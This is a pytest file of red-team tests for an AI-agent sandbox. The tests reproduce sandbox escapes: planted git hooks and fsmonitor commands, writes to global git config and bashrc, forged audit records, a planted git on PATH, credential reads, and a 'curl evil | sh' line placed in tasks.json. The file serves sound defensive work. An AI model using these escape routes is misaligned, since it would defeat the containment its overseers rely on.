"""The red-team review of agent mode after issues 10 and 16: the next member of each class.

Each test reproduces one way out that held on main before its fix, as root and as the
unprivileged user, beside its negative control: the same attempt under the seed's naive
sandbox succeeds, and the host's own git (or shell) then obeys what was planted.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from agent_lab import Lab, agent, git, naive
from conftest import Identity

pytestmark = pytest.mark.sandbox


def _host_git(who: Identity, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """git on the host, as the identity under test (root trusts the user's folder, as a
    root who ran ``git config --global safe.directory '*'`` would)."""
    return who.run(["git", "-c", "safe.directory=*", *args], cwd=cwd)


# --- the audit: a folder the payload locked must not stop it ---------------------------

LOCKED_HOOK = ("git init -q planted && printf '#!/bin/sh\\necho HOOK-RAN\\n' > "
               "planted/.git/hooks/pre-commit && chmod 755 planted/.git/hooks/pre-commit && "
               "mkdir -p zz/.git && cp -r planted/.git/. zz/.git/ && "
               "chmod 111 planted/.git/hooks && mkdir locked && chmod 000 locked; "
               "echo PLANTED")


def test_a_folder_the_payload_locked_cannot_stop_the_audit(who: Identity, lab: Lab) -> None:
    """``chmod 111 hooks`` keeps the hook runnable for git (search is all exec needs) but
    made the audit's listing fail with EACCES, which ended the whole audit: the hook, and
    everything the walk had not reached yet, stayed."""
    r = agent(who, lab, LOCKED_HOOK)
    assert "PLANTED" in r.stdout, r
    for repo in ("planted", "zz"):
        hooks = lab.project / repo / ".git" / "hooks"
        subprocess.run(["chmod", "-R", "u+rwx", str(hooks.parent)], check=False)
        assert not (hooks / "pre-commit").exists(), (repo, r.stderr)
    assert "quarantined" in r.stderr and "could not finish" not in r.stderr, r.stderr
    subprocess.run(["rm", "-rf", *(str(lab.project / n) for n in ("planted", "zz", "locked"))],
                   check=True)
    # Control: under the naive sandbox the locked hook stays, and host git runs it.
    naive(who, lab, LOCKED_HOOK)
    ran = _host_git(who, lab.project / "planted", "-c", "user.name=u", "-c",
                    "user.email=u@example.invalid", "commit", "-q", "--allow-empty", "-m", "x")
    assert "HOOK-RAN" in ran.stdout + ran.stderr, ran
    subprocess.run(["chmod", "-R", "u+rwx", str(lab.project)], check=False)
    subprocess.run(["rm", "-rf", *(str(lab.project / n) for n in ("planted", "zz", "locked"))],
                   check=True)


# --- the top of a writable tree is a directory git may open as a repository -------------

TOP_PLANT = ("mkdir -p objects refs/heads hooks && echo 'ref: refs/heads/main' > HEAD && "
             "printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = "
             "\"echo FSMONITOR-RAN #\"\\n' > config && "
             "printf '#!/bin/sh\\necho HOOK-RAN\\n' > hooks/pre-commit && "
             "chmod 755 hooks/pre-commit; echo PLANTED")


def _plain_project(lab: Lab) -> Path:
    """A project that is not (yet) a git repository."""
    project = lab.home / "dev" / f"plain-{uuid.uuid4().hex[:8]}"
    project.mkdir()
    (project / "main.py").write_text("print('hi')\n")
    lab.own(project)
    return project


def test_a_repository_planted_at_the_projects_top_is_audited(who: Identity, lab: Lab
                                                             ) -> None:
    """git opens a folder without ``.git`` as a repository of its own when it holds
    ``HEAD``, ``objects/`` and ``refs/``; ``core.worktree`` then gives it a work tree and
    ``core.fsmonitor`` runs on the next ``git status`` (a shell prompt).  The scan and the
    audit looked for such repositories everywhere but at the top of the tree."""
    project = _plain_project(lab)
    r = agent(who, lab, TOP_PLANT, cwd=project)
    assert "PLANTED" in r.stdout, r
    seen = _host_git(who, project, "config", "--get", "core.fsmonitor")
    assert "FSMONITOR" not in seen.stdout, r.stderr
    assert not (project / "hooks" / "pre-commit").exists(), r.stderr
    assert "quarantined" in r.stderr, r.stderr
    # Control: the naive sandbox plants the same, and host git obeys it.
    shutil.rmtree(project)
    project = _plain_project(lab)
    naive(who, lab, TOP_PLANT, cwd=project)
    seen = _host_git(who, project, "config", "--get", "core.fsmonitor")
    assert "FSMONITOR-RAN" in seen.stdout, seen
    top = _host_git(who, project, "rev-parse", "--absolute-git-dir")
    assert top.stdout.strip() == str(project), top


# --- what the host runs from the home directory, kept in the project ---------------------

def test_home_files_that_link_into_the_project_stay_read_only(who: Identity, lab: Lab
                                                              ) -> None:
    """Dotfile managers (stow, rcm, dotbot, yadm's alt links) make ``~/.gitconfig`` and
    ``~/.bashrc`` links into a dotfiles repository.  An agent working on that repository
    wrote the user's global git config (``core.fsmonitor``, ``core.pager``) and shell
    start-up file through the project: corral said both were read-only."""
    project = lab.project
    (project / "gitconfig").write_text("[user]\n\tname = Dot Files\n")
    (project / "bashrc").write_text("# rc\n")
    lab.own(project)
    gitconfig, bashrc = lab.home / ".gitconfig", lab.home / ".bashrc"
    bashrc.unlink()
    gitconfig.symlink_to(project / "gitconfig")
    bashrc.symlink_to(project / "bashrc")
    lab.own(gitconfig, bashrc)
    script = ("(printf '[core]\\n\\tfsmonitor = \"echo FSMONITOR-RAN #\"\\n' >> gitconfig) "
              "2>/dev/null && echo WROTE-GIT; (echo 'echo RC-RAN' >> bashrc) 2>/dev/null && "
              "echo WROTE-RC; echo DONE")
    try:
        r = agent(who, lab, script)
        assert "DONE" in r.stdout and "WROTE" not in r.stdout, r
        env = {"HOME": str(lab.home)}
        seen = who.run(["git", "config", "--global", "--get", "core.fsmonitor"], env=env)
        assert "FSMONITOR" not in seen.stdout
        # Control: the naive sandbox writes both, and host git obeys the global config.
        ctl = naive(who, lab, script)
        assert "WROTE-GIT" in ctl.stdout and "WROTE-RC" in ctl.stdout, ctl
        seen = who.run(["git", "config", "--global", "--get", "core.fsmonitor"], env=env)
        assert "FSMONITOR-RAN" in seen.stdout, seen
    finally:
        gitconfig.unlink(missing_ok=True)
        bashrc.unlink(missing_ok=True)
        bashrc.write_text("# rc\n")
        lab.own(bashrc)


def test_gits_own_files_stay_read_only_when_the_project_holds_them(who: Identity, lab: Lab
                                                                   ) -> None:
    """Launched from ``~/.config`` (a dotfiles repository kept there), the profile's
    read-only ``~/.config/git/config`` was skipped as "inside a writable tree" and never
    re-mounted: the agent wrote the user's global git config."""
    gitdir = lab.home / ".config" / "git"
    gitdir.mkdir(parents=True, exist_ok=True)
    (gitdir / "config").write_text("[user]\n\tname = Config\n")
    lab.own(lab.home / ".config")
    project = lab.home / ".config"
    script = ("(printf '[core]\\n\\tpager = \"echo PAGER-RAN #\"\\n' >> git/config) "
              "2>/dev/null && echo WROTE; echo DONE")
    try:
        r = agent(who, lab, script, cwd=project)
        assert "DONE" in r.stdout and "WROTE" not in r.stdout, r
        ctl = naive(who, lab, script, cwd=project)
        assert "WROTE" in ctl.stdout, ctl
        seen = who.run(["git", "config", "--global", "--get", "core.pager"],
                       env={"HOME": str(lab.home)})
        assert "PAGER-RAN" in seen.stdout, seen
    finally:
        shutil.rmtree(gitdir, ignore_errors=True)


def test_a_git_directory_is_not_needed_for_the_top_check(who: Identity, lab: Lab) -> None:
    """Negative space for the top-of-tree check: an ordinary project whose top holds a file
    named HEAD (and folders named objects and refs) but no valid HEAD still runs."""
    project = _plain_project(lab)
    (project / "objects").mkdir()
    (project / "refs").mkdir()
    (project / "HEAD").write_text("not a ref\n")
    lab.own(project)
    r = agent(who, lab, "echo RAN", cwd=project)
    assert r.returncode == 0 and "RAN" in r.stdout, r


DISGUISE = ("mkdir -p src/objects src/refs && echo 'ref: refs/heads/main' > src/HEAD && "
            "git init -q src/lib && printf '#!/bin/sh\\necho HOOK-RAN\\n' > "
            "src/lib/.git/hooks/pre-commit && chmod 755 src/lib/.git/hooks/pre-commit && "
            "echo 'echo ENVRC-RAN' > src/.envrc; echo PLANTED")


def test_a_folder_that_looks_like_a_repository_hides_nothing_from_the_audit(
        who: Identity, lab: Lab) -> None:
    """Three names (``HEAD``, ``objects/``, ``refs/``) made ``src/`` a bare repository to
    the audit, which then looked only at git's control files there and never beneath:
    a new repository with a hook in ``src/lib`` and a ``src/.envrc`` stayed."""
    r = agent(who, lab, DISGUISE)
    assert "PLANTED" in r.stdout, r
    assert not (lab.project / "src" / "lib" / ".git" / "hooks" / "pre-commit").exists(), r
    assert not (lab.project / "src" / ".envrc").exists(), r.stderr
    shutil.rmtree(lab.project / "src")
    # Control: planted by the naive sandbox, host git in src/lib runs the hook.
    naive(who, lab, DISGUISE)
    ran = _host_git(who, lab.project / "src" / "lib", "-c", "user.name=u", "-c",
                    "user.email=u@example.invalid", "commit", "-q", "--allow-empty", "-m", "x")
    assert "HOOK-RAN" in ran.stdout + ran.stderr, ran
    shutil.rmtree(lab.project / "src")


NESTED_DISGUISE = (
    "for d in lib ctl; do mkdir -p $d/modules/a $d/modules/app/.vscode $d/worktrees/w && "
    "(cd $d/modules/a && git init -q && : > HEAD && : > config && "
    "printf '#!/bin/sh\\necho HOOK-RAN\\n' > .git/hooks/pre-commit && "
    "chmod 755 .git/hooks/pre-commit) && echo '{}' > $d/modules/app/.vscode/tasks.json && "
    "echo 'echo ENVRC-RAN' > $d/worktrees/w/.envrc; done; "
    "(cd lib && : > HEAD && mkdir objects refs); echo PLANTED")


def test_a_folder_that_looks_like_a_repository_hides_nothing_in_its_modules(
        who: Identity, lab: Lab) -> None:
    """The same disguise one level down (review 5): ``lib/`` made to look bare, the audit
    walked its ``modules/`` and ``worktrees/`` for git directories alone, and stopped at
    the first (``HEAD`` and ``config`` were enough): the new repository's hook beneath
    it, and the protected names beside it, stayed.  ``ctl/``, the same without the
    disguise, was always audited."""
    r = agent(who, lab, NESTED_DISGUISE)
    assert "PLANTED" in r.stdout, r
    for d in ("lib", "ctl"):
        assert not (lab.project / d / "modules/a/.git/hooks/pre-commit").exists(), r.stderr
        assert not (lab.project / d / "modules/app/.vscode").exists(), r.stderr
        assert not (lab.project / d / "worktrees/w/.envrc").exists(), r.stderr
    shutil.rmtree(lab.project / "lib")
    shutil.rmtree(lab.project / "ctl")
    # Control: planted by the naive sandbox, host git in lib/modules/a runs the hook.
    naive(who, lab, NESTED_DISGUISE)
    ran = _host_git(who, lab.project / "lib" / "modules" / "a", "-c", "user.name=u", "-c",
                    "user.email=u@example.invalid", "commit", "-q", "--allow-empty", "-m", "x")
    assert "HOOK-RAN" in ran.stdout + ran.stderr, ran
    shutil.rmtree(lab.project / "lib")
    shutil.rmtree(lab.project / "ctl")


def test_a_protected_folder_the_launch_did_not_reach_is_still_compared(
        who: Identity, lab: Lab) -> None:
    """A ``.vscode`` already inside a submodule's git directory of a bare-looking folder:
    the launch scan stops at that git directory (left writable), so the folder was not
    made read-only, and the audit looked at it only if the folder itself had changed.
    Now what changed inside any protected folder goes.  Control: the naive sandbox's
    change stays."""
    sub = lab.project / "lib" / "modules" / "a"
    for d in ("objects", "refs", "modules/a/objects", "modules/a/refs", "modules/a/.vscode"):
        (lab.project / "lib" / d).mkdir(parents=True)
    (lab.project / "lib" / "HEAD").write_text("ref: refs/heads/main\n")
    (sub / "HEAD").write_text("ref: refs/heads/main\n")
    (sub / "config").write_text("[core]\n\tbare = true\n")
    tasks = sub / ".vscode" / "tasks.json"
    tasks.write_text("{}\n")
    lab.own(lab.project / "lib")
    change = ("echo '{\"tasks\": [\"curl evil | sh\"]}' > lib/modules/a/.vscode/tasks.json; "
              "echo CHANGED")
    r = agent(who, lab, change)
    assert "CHANGED" in r.stdout, r
    assert not tasks.exists() or "evil" not in tasks.read_text(), r.stderr
    assert "tasks.json" in r.stderr, r.stderr
    tasks.write_text("{}\n")
    lab.own(tasks)
    naive(who, lab, change)  # control: without the audit, the change stays
    assert "evil" in tasks.read_text()


# --- corral's copies of the agents' state, and their logins ----------------------------

def test_a_project_holding_corrals_state_copies_is_refused(who: Identity, lab: Lab) -> None:
    """corral copies each agent's login into ``~/.local/state/corral/agents/<profile>/``.
    Launched from ``~/.local`` (or anywhere above or inside that store), another agent
    profile read Claude's login there, and could rewrite the copy Claude runs inside."""
    creds = lab.home / ".local/state/corral/agents/claude/.claude/.credentials.json"
    creds.parent.mkdir(parents=True)
    creds.write_text(lab.token)
    lab.own(lab.home / ".local")
    script = f"cat {creds}; echo; echo DONE"
    for cwd in (lab.home / ".local", creds.parent):
        r = agent(who, lab, script, cwd=cwd)
        assert lab.token not in r.stdout, (cwd, r)
        assert r.returncode == 125 and "corral's copies" in r.stderr, (cwd, r)
    # Control: from the project itself, the same agent runs (and sees no login).
    ok = agent(who, lab, script)
    assert ok.returncode == 0 and "DONE" in ok.stdout and lab.token not in ok.stdout, ok
    ctl = naive(who, lab, script, cwd=lab.home / ".local")
    assert lab.token in ctl.stdout


# --- the audit after corral itself was SIGKILLed ---------------------------------------

KILLED_PLANT = ("git init -q planted && printf '#!/bin/sh\\necho HOOK-RAN\\n' > "
                "planted/.git/hooks/pre-commit && chmod 755 planted/.git/hooks/pre-commit && "
                "echo PLANTED && sleep 60")


def _killed_run(who: Identity, lab: Lab) -> None:
    proc = subprocess.Popen([*who.prefix(), "-m", "corral", "agent", "--", "/bin/sh", "-c",
                             KILLED_PLANT], cwd=lab.project, env=who.environ(),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert proc.stdout is not None
    assert proc.stdout.readline().strip() == "PLANTED"
    proc.kill()  # no unwinding, no audit
    proc.communicate(timeout=120)


def test_a_run_whose_corral_was_killed_is_audited_at_the_next_launch(who: Identity,
                                                                      lab: Lab) -> None:
    """SIGKILL of corral skips the audit (declared): the next launch in the same runs
    directory audits what that run left, before its own scan takes it in."""
    hook = lab.project / "planted" / ".git" / "hooks" / "pre-commit"
    _killed_run(who, lab)
    assert hook.exists()  # the control: killed outright, nothing was audited
    nxt = agent(who, lab, "echo NEXT")
    assert nxt.returncode == 0 and "NEXT" in nxt.stdout, nxt
    assert not hook.exists(), nxt.stderr
    assert "audit was not done" in nxt.stderr, nxt.stderr
    again = agent(who, lab, "echo AGAIN")  # audited once: nothing more to say
    assert "audit was not done" not in again.stderr, again.stderr
    # Control: a launch with another runs directory knows nothing of the killed run.
    subprocess.run(["rm", "-rf", str(lab.project / "planted")], check=True)
    _killed_run(who, lab)
    other = who.corral("agent", "--", "/bin/true", cwd=lab.project,
                       env={"CORRAL_RUNS_DIR": str(who.tmp / "other-runs")})
    assert other.returncode == 0 and hook.exists(), other
    subprocess.run(["rm", "-rf", str(lab.project / "planted")], check=True)


QUIT_RUNNER = """
import os, signal, sys
from corral import audit
from corral.cli import main
mode, plant = sys.argv[1], sys.argv[2]
real = audit.Auditor.run
def run(self):
    os.kill(os.getpid(), signal.SIGQUIT)  # Ctrl-\\ while the audit runs
    return real(self)
audit.Auditor.run = run
if mode == "unheld":  # the control: the audit held SIGINT, SIGTERM and SIGHUP only
    audit.HELD = {signal.SIGINT, signal.SIGTERM, signal.SIGHUP}
main(["agent", "--", "/bin/sh", "-c", plant])
"""


def test_every_stopping_signal_waits_for_the_audit(who: Identity, lab: Lab) -> None:
    """The CLI unwinds on SIGQUIT, SIGUSR1, SIGUSR2 and SIGALRM as on SIGTERM, but the
    audit held back only SIGINT, SIGTERM and SIGHUP: a Ctrl-\\ during a long audit (the
    agent can make it long) skipped it, and the census the run owed was settled anyway,
    so the next launch did not audit either (found by review).  Now the audit holds every
    stopping signal, and the census is settled only once the audit has run.  Control:
    the old set held, the signal cuts the audit short, and the next launch audits it."""
    hook = lab.project / "planted" / ".git" / "hooks" / "pre-commit"
    plant = KILLED_PLANT.replace(" && sleep 60", "")
    for mode in ("held", "unheld"):
        proc = subprocess.run([*who.prefix(), "-c", QUIT_RUNNER, mode, plant],
                              cwd=lab.project, env=who.environ(), capture_output=True,
                              text=True, timeout=300, check=False)
        assert "PLANTED" in proc.stdout, proc
        assert proc.returncode == 128 + signal.SIGQUIT, proc
        if mode == "held":  # audited first, then the signal ended corral
            assert not hook.exists(), proc.stderr
        else:
            assert hook.exists(), proc.stderr
            nxt = agent(who, lab, "echo NEXT")
            assert not hook.exists() and "audit was not done" in nxt.stderr, nxt
        subprocess.run(["rm", "-rf", str(lab.project / "planted")], check=True)


PATH_GIT_RUNNER = """
import shutil, sys
from corral import host
from corral.cli import main
if sys.argv[1] == "which":  # the control: git found on PATH as shutil.which finds it
    host.system_program = shutil.which
main(["agent", "--", "/bin/sh", "-c", sys.argv[2]])
"""


def test_the_audit_never_runs_a_git_the_agent_planted_on_path(who: Identity, lab: Lab) -> None:
    """The audit checks a pack the run wrote with the host's ``git index-pack``, and found
    git on the launcher's PATH: with a folder of the project on PATH (``bin``,
    ``node_modules/.bin``), the agent's own ``git`` ran there, on the host, outside the
    sandbox (found by review).  Now only the system's git is run.  Control: git found as
    shutil.which finds it, the agent's program runs on the host."""
    ran = lab.project / "HOST-RAN-PLANTED-GIT"
    plant = (f"mkdir -p bin && printf '#!/bin/sh\\necho ran > {ran}\\nexec /usr/bin/git \"$@\"\\n'"
             " > bin/git && chmod 755 bin/git && echo MODE > f && G='/usr/bin/git -c "
             "user.name=a -c user.email=a@example.invalid' && $G add f && $G commit -qm y && "
             "$G repack -a -d -q 2>/dev/null; ls .git/objects/pack | grep -c pack")
    env = {"PATH": f"{lab.project}/bin:/usr/local/bin:/usr/bin:/bin"}
    for mode in ("system", "which"):
        r = subprocess.run([*who.prefix(), "-c", PATH_GIT_RUNNER, mode,
                            plant.replace("MODE", mode)],
                           cwd=lab.project, env=who.environ(env), capture_output=True,
                           text=True, timeout=300, check=False)
        assert r.returncode == 0 and r.stdout.strip() == "2", r  # a pack and its index
        assert ran.exists() == (mode == "which"), (mode, r.stderr)
        ran.unlink(missing_ok=True)
        subprocess.run(["rm", "-rf", str(lab.project / "bin")], check=True)


LOCKED_RUNNER = """
import sys
from corral import fswalk
from corral.cli import main
if sys.argv[1] == "locked":  # the control: a refusal is not met by unlocking the folder
    fswalk._unlocked = lambda tree, op, *folders: op()
main(["agent", "--", "/bin/sh", "-c", sys.argv[2]])
"""


def test_a_git_directory_the_payload_locked_is_still_audited(who: Identity, lab: Lab) -> None:
    """A new repository whose config names a command (core.fsmonitor), its .git made
    read-only (chmod 555; Landlock does not govern modes): the audit could not move the
    config out (EACCES), warned, and settled the census it owed, so nothing ever undid it
    and host git ran the command (found by review).  Now the owner's rights come back to a
    folder the payload locked before a move or removal, as before a listing; and an
    audit that failed to undo something stays owed.  Control: without the unlocking, the
    config stays and the census is still owed."""
    ran = lab.project / "HOST-GIT-RAN-FSMONITOR"
    plant = (f"git init -q sub && git -C sub config core.fsmonitor 'echo ran > {ran}; false'"
             " && chmod 555 sub/.git && echo PLANTED")
    for mode in ("unlocked", "locked"):
        r = subprocess.run([*who.prefix(), "-c", LOCKED_RUNNER, mode, plant],
                           cwd=lab.project, env=who.environ(), capture_output=True, text=True,
                           timeout=300, check=False)
        assert "PLANTED" in r.stdout, r
        config = lab.project / "sub" / ".git" / "config"
        owed = list((who.tmp / "runs" / ".pending").glob("*.json"))
        if mode == "unlocked":
            assert r.returncode == 0 and not config.exists() and owed == [], r.stderr
            who.run(["git", "-c", "safe.directory=*", "status"], cwd=lab.project / "sub")
            assert not ran.exists()
        elif who.is_root:  # root's own moves are not refused by the folder's mode
            assert not config.exists() and owed == [], r.stderr
        else:
            assert config.exists() and "could not undo it" in r.stderr and owed, r.stderr
            for left in owed:
                left.unlink()
        subprocess.run(["chmod", "-R", "u+w", str(lab.project / "sub")], check=True)
        subprocess.run(["rm", "-rf", str(lab.project / "sub")], check=True)


def test_an_owed_audit_a_launch_cannot_do_yet_stays_owed(who: Identity, lab: Lab) -> None:
    """A run whose corral was SIGKILLed owes its audit to the next launch.  The payload
    also left a credential-looking file at the project's top (.netrc): the next launch
    refused the project, and dropped the owed audit unaudited, so once the user removed
    the file nothing ever audited the plant (found by review).  Now it stays owed, and is
    named at every launch until it can be done.  (Control: the killed run alone, without
    .netrc, is audited at the next launch: test_a_run_whose_corral_was_killed_...)"""
    hook = lab.project / "planted" / ".git" / "hooks" / "pre-commit"
    _killed_run(who, lab)
    netrc = lab.project / ".netrc"
    netrc.write_text("machine x login y password z\n")
    lab.own(netrc)
    refused = agent(who, lab, "echo NEXT")
    assert refused.returncode == 125 and hook.exists(), refused
    assert "still owed" in refused.stderr, refused.stderr
    netrc.unlink()
    nxt = agent(who, lab, "echo NEXT")
    assert nxt.returncode == 0 and not hook.exists(), nxt
    assert "audit was not done" in nxt.stderr, nxt.stderr
    subprocess.run(["rm", "-rf", str(lab.project / "planted")], check=True)


CAPPED_RUNNER = """
import sys
from corral import audit
from corral.cli import main
audit.AUDIT_CAP = 300  # as 500,000 entries are for the real cap
main(["agent", "--", "/bin/sh", "-c", sys.argv[1]])
"""


def test_an_audit_that_meets_its_cap_stays_owed(who: Identity, lab: Lab) -> None:
    """The payload made more entries than the audit walks (500,000) beside a planted
    repository: the audit stopped, said so, and settled the census it owed, so nothing
    audited the plant after the user cleaned up (found by review).  Now an audit that did
    not finish stays owed, and the next launch does it.  Scaled down: a cap of 300."""
    hook = lab.project / "planted" / ".git" / "hooks" / "pre-commit"
    plant = (f"{KILLED_PLANT.replace(' && sleep 60', '')} && mkdir many && cd many && "
             "touch $(seq 1 400)")
    r = subprocess.run([*who.prefix(), "-c", CAPPED_RUNNER, plant], cwd=lab.project,
                       env=who.environ(), capture_output=True, text=True, timeout=300,
                       check=False)
    assert "PLANTED" in r.stdout and "could not finish" in r.stderr, r
    assert list((who.tmp / "runs" / ".pending").glob("*.json")), r.stderr  # still owed
    subprocess.run(["rm", "-rf", str(lab.project / "many")], check=True)
    nxt = agent(who, lab, "echo NEXT")  # the owed audit, whole this time
    assert nxt.returncode == 0 and not hook.exists(), nxt
    assert not list((who.tmp / "runs" / ".pending").glob("*.json")), nxt.stderr
    subprocess.run(["rm", "-rf", str(lab.project / "planted")], check=True)


NEXT_RUNNER = """
import sys
from corral import cgroups
from corral.cli import main
if sys.argv[1] == "left-alone":  # the control: what still runs of the killed run runs on
    cgroups.end_leftover = lambda facts, run_id: False
main(["agent", "--", "/bin/sh", "-c", "echo NEXT"])
"""


def test_what_still_runs_of_a_killed_run_ends_before_its_audit(who: Identity, lab: Lab
                                                               ) -> None:
    """A run whose corral was SIGKILLed is audited by the next launch; if anything of it
    still ran then (review 3 kept a sandbox alive that way), it planted again after the
    audit.  The next launch now kills what is left in the run's cgroups first.  Here a
    process that plants the hook every 0.1 s stands for what is left.  Control: left
    alone, it plants the hook again after the audit."""
    hook = lab.project / "planted" / ".git" / "hooks" / "pre-commit"
    for mode in ("ended", "left-alone"):
        _killed_run(who, lab)
        [owed] = (who.tmp / "runs" / ".pending").glob("*.json")
        run_id = owed.name[:-len(".json")]
        replant = (f"import os, time\nwhile True:\n    os.makedirs('{hook.parent}', "
                   f"exist_ok=True)\n    open('{hook}', 'w').write('#!/bin/sh\\n')\n"
                   "    time.sleep(0.1)\n")
        left = subprocess.Popen([*who.prefix(), "-c", replant], env=who.environ())
        try:
            Path(f"/sys/fs/cgroup/pids/corral/uid-{who.uid}/{run_id}/cgroup.procs"
                 ).write_text(str(left.pid))
            r = subprocess.run([*who.prefix(), "-c", NEXT_RUNNER, mode], cwd=lab.project,
                               env=who.environ(), capture_output=True, text=True,
                               timeout=300, check=False)
            assert r.returncode == 0 and "NEXT" in r.stdout, r
            time.sleep(1)
            if mode == "ended":
                assert left.poll() is not None and not hook.exists(), r.stderr
            else:
                assert left.poll() is None and hook.exists(), r.stderr
        finally:
            left.kill()
            left.wait()
        subprocess.run(["rm", "-rf", str(lab.project / "planted")], check=True)


def test_an_owed_audit_is_never_read_from_a_runs_directory_the_sandbox_can_write(
        who: Identity, lab: Lab) -> None:
    """corral wrote no owed census in a runs directory inside the project, but read one
    there: the agent could forge one naming another of the user's repositories and a
    quarantine of its choosing (review 3 had the user's next launch move a private file
    into the project), or a live run's id (which the next launch then killed).  Now a
    runs directory inside a tree the sandbox writes is refused outright (the payload also
    swapped a link in for its own run's folder there, and the launcher wrote the record
    and the quarantine where it pointed), and nothing is read from there.  Control: the
    same census in a runs directory outside the project is audited by the next launch."""
    hook = lab.project / "planted" / ".git" / "hooks" / "pre-commit"
    _killed_run(who, lab)
    [owed] = (who.tmp / "runs" / ".pending").glob("*.json")
    inside = lab.project / "runs" / ".pending"
    inside.mkdir(parents=True)
    (inside / owed.name).write_bytes(owed.read_bytes())
    owed.unlink()
    for p in (inside.parent, inside, inside / owed.name):  # as the launcher's own would be
        os.chown(p, who.uid, who.gid)
    r = agent(who, lab, "echo NEXT", env={"CORRAL_RUNS_DIR": str(lab.project / "runs")})
    assert r.returncode == 125 and hook.exists(), r  # not read from there
    assert "the runs directory" in r.stderr and r.stderr.count("\n") == 1, r.stderr
    outside = who.tmp / "runs-outside" / ".pending"
    outside.mkdir(parents=True)
    (inside / owed.name).rename(outside / owed.name)
    for p in (outside.parent, outside):
        os.chown(p, who.uid, who.gid)
    r = agent(who, lab, "echo NEXT", env={"CORRAL_RUNS_DIR": str(outside.parent)})
    assert r.returncode == 0 and not hook.exists() and "audit was not done" in r.stderr, r
    subprocess.run(["rm", "-rf", str(lab.project / "planted"), str(lab.project / "runs")],
                   check=True)


LONG_NAME_RUNNER = """
import sys
from corral import audit
from corral.cli import main
if sys.argv[1] == "uncut":  # the control: the quarantine takes the name as it is
    audit._short = lambda name: name
main(["agent", "--", "/bin/sh", "-c", sys.argv[2]])
"""


def test_a_plant_with_a_name_as_long_as_a_file_name_is_still_quarantined(
        who: Identity, lab: Lab) -> None:
    """A hook named with 253 bytes: the quarantine's NNNN- prefix made its new name too
    long for a file name, every move failed, and the audit stayed owed for ever (found by
    review).  Now the quarantine cuts the name.  Control: uncut, the move fails."""
    name = "h" * 253
    hook = lab.project / "planted" / ".git" / "hooks" / name
    plant = (f"git init -q planted && printf '#!/bin/sh\\n' > planted/.git/hooks/{name} && "
             f"chmod 755 planted/.git/hooks/{name} && echo PLANTED")
    for mode in ("cut", "uncut"):
        r = subprocess.run([*who.prefix(), "-c", LONG_NAME_RUNNER, mode, plant],
                           cwd=lab.project, env=who.environ(), capture_output=True,
                           text=True, timeout=300, check=False)
        assert "PLANTED" in r.stdout, r
        assert hook.exists() == (mode == "uncut"), r.stderr
        if mode == "uncut":
            assert "File name too long" in r.stderr, r.stderr
        for left in (who.tmp / "runs" / ".pending").glob("*.json"):
            left.unlink()
        subprocess.run(["rm", "-rf", str(lab.project / "planted")], check=True)


def test_an_owed_audit_without_corrals_own_mac_is_not_believed(who: Identity, lab: Lab
                                                                ) -> None:
    """A census is what the next launch audits (trees, names, times): one the payload
    forged (review 4 wrote one naming ~/.ssh, which the recovery then moved where the
    next sandbox read the key) must not be believed.  Censuses carry an HMAC with a key in
    corral's own state folder, which no sandbox sees.  Here the killed run's census is
    rewritten with a MAC of another key, as a payload without corral's key could: the
    next launch ignores it.  Control: with corral's own MAC it is audited."""
    hook = lab.project / "planted" / ".git" / "hooks" / "pre-commit"
    _killed_run(who, lab)
    [owed] = (who.tmp / "runs" / ".pending").glob("*.json")
    mac, census = owed.read_bytes().split(b"\n", 1)
    assert len(mac) == 64, mac  # corral wrote it with its MAC
    from corral import pending

    owed.write_bytes(pending._mac(os.urandom(32), census).encode() + b"\n" + census)
    r = agent(who, lab, "echo NEXT")
    assert r.returncode == 0 and hook.exists(), r  # not believed: not audited
    owed.write_bytes(mac + b"\n" + census)  # the control: corral's own
    r = agent(who, lab, "echo NEXT")
    assert r.returncode == 0 and not hook.exists() and "audit was not done" in r.stderr, r
    subprocess.run(["rm", "-rf", str(lab.project / "planted")], check=True)


# --- git's global settings, wherever the user keeps them ---------------------------------

def _commit(who: Identity, cwd: Path, env: dict[str, str] | None = None
            ) -> subprocess.CompletedProcess[str]:
    return who.run(["git", "-c", "safe.directory=*", "-c", "user.name=u", "-c",
                    "user.email=u@example.invalid", "commit", "-q", "--allow-empty", "-m", "x"],
                   cwd=cwd, env=env)


def test_a_global_relative_hooks_path_counts_for_new_repositories(who: Identity, lab: Lab
                                                                  ) -> None:
    """``core.hooksPath = .hooks`` in ``~/.gitconfig`` makes every repository's
    ``.hooks/`` its hook folder.  The audit quarantined a new repository's ``.git/hooks``
    but not the folder git would really run hooks from."""
    (lab.home / ".gitconfig").write_text("[core]\n\thooksPath = .hooks\n")
    lab.own(lab.home / ".gitconfig")
    script = ("git init -q fresh && mkdir fresh/.hooks && printf '#!/bin/sh\\necho HOOK-RAN\\n'"
              " > fresh/.hooks/pre-commit && chmod 755 fresh/.hooks/pre-commit; echo PLANTED")
    env = {"HOME": str(lab.home)}
    try:
        r = agent(who, lab, script)
        assert "PLANTED" in r.stdout, r
        ran = _commit(who, lab.project / "fresh", env)
        assert "HOOK-RAN" not in ran.stdout + ran.stderr, (ran, r.stderr)
        shutil.rmtree(lab.project / "fresh")
        naive(who, lab, script)  # control: host git runs the hook the naive sandbox planted
        ran = _commit(who, lab.project / "fresh", env)
        assert "HOOK-RAN" in ran.stdout + ran.stderr, ran
    finally:
        (lab.home / ".gitconfig").unlink(missing_ok=True)
        shutil.rmtree(lab.project / "fresh", ignore_errors=True)


def test_git_config_global_in_the_project_stays_read_only(who: Identity, lab: Lab) -> None:
    """``GIT_CONFIG_GLOBAL`` (and ``XDG_CONFIG_HOME``) tell git where the global config is;
    set to a dotfiles project's file, that file is the user's global config."""
    (lab.project / "gitconfig").write_text("[user]\n\tname = Dot Files\n")
    lab.own(lab.project)
    script = ("(printf '[core]\\n\\tpager = \"echo PAGER-RAN #\"\\n' >> gitconfig) 2>/dev/null "
              "&& echo WROTE; echo DONE")
    env = {"GIT_CONFIG_GLOBAL": str(lab.project / "gitconfig")}
    r = agent(who, lab, script, env=env)
    assert "DONE" in r.stdout and "WROTE" not in r.stdout, r
    ctl = naive(who, lab, script)
    assert "WROTE" in ctl.stdout, ctl
    seen = who.run(["git", "config", "--global", "--get", "core.pager"], env=env)
    assert "PAGER-RAN" in seen.stdout, seen


# --- project configuration that host programs run without asking ------------------------

